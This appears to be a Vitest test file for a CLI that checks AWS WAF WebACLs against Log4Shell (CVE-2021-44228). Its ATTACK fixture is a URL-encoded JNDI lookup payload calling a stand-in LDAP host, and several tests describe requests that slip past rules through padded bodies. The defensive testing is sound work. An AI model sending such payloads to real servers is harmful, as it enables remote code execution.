import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { instant } from '#kernel';
import { fixedClock } from '#platform/runtime';
import { openStore } from '#platform/store';
import { type CliBench, cliBench } from '../support/cli.ts';
import { SHOP_ACL, SHOP_WEB_ACL, seedWaf } from '../support/waf-estate.ts';

const LOG4SHELL = 'CVE-2021-44228';
const ATTACK = 'GET /search?q=%24%7Bjndi:ldap://a.example} HTTP/1.1\nHost: shop\n\n';
const ORDINARY = 'GET /search?q=shoes HTTP/1.1\nHost: shop\n\n';

let bench: CliBench;
const file = (name: string, text: string): string => {
  const path = join(bench.folder, name);
  writeFileSync(path, text);
  return path;
};

beforeAll(async () => {
  bench = await cliBench(fixedClock(instant('2026-11-26T00:00:00Z')));
  const store = await openStore(bench.store);
  await seedWaf(store);
  await store.close();
});
afterAll(() => bench.close());

describe('yagura waf test', () => {
  it('says what a WebACL of the snapshot does, by which rule, and that nothing was sent', async () => {
    const { code, out } = await bench.run('waf', 'test', '--web-acl', 'shop', '--request', file('a.http', ATTACK));
    expect(code).toBe(0);
    expect(out).toContain('blocked (proved)');
    expect(out).toContain('by jndi (Rules/0)');
    expect(out).toContain('nothing was sent');
  });

  it('judges a WebACL out of a file as `aws wafv2 get-web-acl` answers it, without a snapshot', async () => {
    const acl = file(
      'acl.json',
      JSON.stringify({ WebACL: { ...SHOP_WEB_ACL, Rules: SHOP_WEB_ACL.Rules.slice(0, 1) }, LockToken: 'x' }),
    );
    const run = async (text: string, ...more: string[]) => {
      const { out } = await bench.run(
        'waf',
        'test',
        '--file',
        acl,
        '--request',
        file('b.http', text),
        '--json',
        ...more,
      );
      const { evaluation, bodyLimit } = JSON.parse(out);
      return [evaluation.action, evaluation.certainty, bodyLimit];
    };
    expect(await run(ATTACK)).toEqual(['block', 'proved', 8_192]);
    expect(await run(ORDINARY, '--resource', 'api-gateway')).toEqual(['allow', 'proved', 16_384]);
  });

  it.each([
    [['--web-acl', 'shpo'], 5, 'did you mean `shop`'],
    [[], 3, '--web-acl'],
    [['--web-acl', 'shop', '--resource', 'toaster'], 3, 'load-balancer, cloudfront'],
    [['--file', 'no.json'], 5, ''],
  ])('%j is refused with a mend', async (args, code, mend) => {
    const run = await bench.run('waf', 'test', '--request', file('c.http', ATTACK), ...args);
    expect([run.code, run.err]).toEqual([code, expect.stringContaining(mend)]);
  });

  it('refuses a file that holds no WebACL, and a request that is none', async () => {
    const noAcl = file('no-acl.json', '{"Rule":[]}');
    const request = file('d.http', 'nonsense');
    expect((await bench.run('waf', 'test', '--file', noAcl, '--request', request)).err).toContain(
      'aws wafv2 get-web-acl',
    );
    expect((await bench.run('waf', 'test', '--web-acl', 'shop', '--request', request)).err).toContain('HTTP/1.1');
    expect((await bench.run('waf', 'test', '--web-acl', 'shop', '--request', 'absent')).code).toBe(3);
  });
});

describe('yagura waf audit', () => {
  it('names what weakens a WebACL, with what to do, and fails on demand', async () => {
    const all = await bench.run('waf', 'audit');
    expect(all).toMatchObject({ code: 0, out: expect.stringContaining('Log4JRCE') });
    expect(all.out).toContain('unused');
    expect((await bench.run('waf', 'audit', 'shop', '--fail-on', 'high')).code).toBe(2);
    expect((await bench.run('waf', 'audit', 'unused', '--fail-on', 'critical')).code).toBe(0);
    expect((await bench.run('waf', 'audit', 'shop', '--lang', 'ja')).out).toContain('オーバーライド');
    expect(JSON.parse((await bench.run('waf', 'audit', SHOP_ACL, '--json')).out)[0].audit[0].severity).toBe('high');
  });
});

describe('yagura waf verdict', () => {
  it('shows each entrance, what is behind it, and the request that gets through', async () => {
    const { code, out } = await bench.run('waf', 'verdict', LOG4SHELL);
    expect(code).toBe(0);
    expect(out).toMatch(/shop +shop +blocks +does not block \(1 ways avoid it\) +jndi/);
    expect(out).toMatch(/legacy +none +does not block/);
    expect(out).toContain('gets through legacy:\n  GET /search?q=');
    expect((await bench.run('waf', 'verdict', 'CVE-1999-0001')).code).toBe(5);
  });

  it('judges a WebACL of a file as if it stood in front of a resource', async () => {
    const acl = file('open.json', JSON.stringify({ Name: 'open', DefaultAction: { Allow: {} }, Rules: [] }));
    const { out } = await bench.run('waf', 'verdict', LOG4SHELL, '--file', acl, '--json');
    expect(JSON.parse(out).lines).toMatchObject([{ webAcl: 'open', verdict: 'does-not-block' }]);
  });
});

describe('yagura waf patch', () => {
  it('writes a rule to standard output, and says beside it that a padded body gets past it', async () => {
    const patch = await bench.run('waf', 'patch', LOG4SHELL);
    expect(patch.code).toBe(0);
    expect(patch.err).toContain('blocks 3 of 3 known requests');
    const acl = { Name: 'patched', DefaultAction: { Allow: {} }, Rules: [JSON.parse(patch.out)] };
    const patched = file('patched.json', JSON.stringify(acl));
    const { out } = await bench.run('waf', 'verdict', LOG4SHELL, '--file', patched, '--json');
    // The JSON variant is searched alone, and a padded body hides it: the patch says so.
    expect(patch.err).toContain('padded');
    expect(JSON.parse(out).lines[0]).toMatchObject({
      verdict: 'does-not-block',
      through: expect.stringContaining('POST /login'),
    });
  });

  it('writes CloudFormation, fits a WebACL, and lets the ordinary requests of the operator through', async () => {
    const run = await bench.run('waf', 'patch', LOG4SHELL, '--web-acl', 'shop', '--format', 'cloudformation');
    expect(run.out).toMatch(/^AWSTemplateFormatVersion: .*\n[\s\S]*SearchStringBase64/);
    expect(run.err).toMatch(/capacity: 260 WCU now, \d+ with it/);
    const folder = join(bench.folder, 'benign');
    mkdirSync(folder);
    writeFileSync(join(folder, '1.http'), ATTACK);
    const refused = await bench.run('waf', 'patch', LOG4SHELL, '--benign', folder);
    expect([refused.code, refused.out, refused.err]).toEqual([1, '', expect.stringContaining('no rule')]);
  });
});
